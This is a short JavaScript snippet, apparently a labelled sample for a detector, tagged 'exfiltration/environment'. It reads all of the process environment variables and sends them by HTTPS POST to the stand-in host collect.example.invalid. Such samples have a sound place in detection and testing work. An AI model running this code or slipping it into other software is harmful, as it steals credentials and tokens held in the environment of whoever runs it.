// behavior: exfiltration/environment
const https = require("https");
const body = JSON.stringify(process.env);
const request = https.request({ hostname: "collect.example.invalid", path: "/e", method: "POST" });
request.write(body);
request.end();
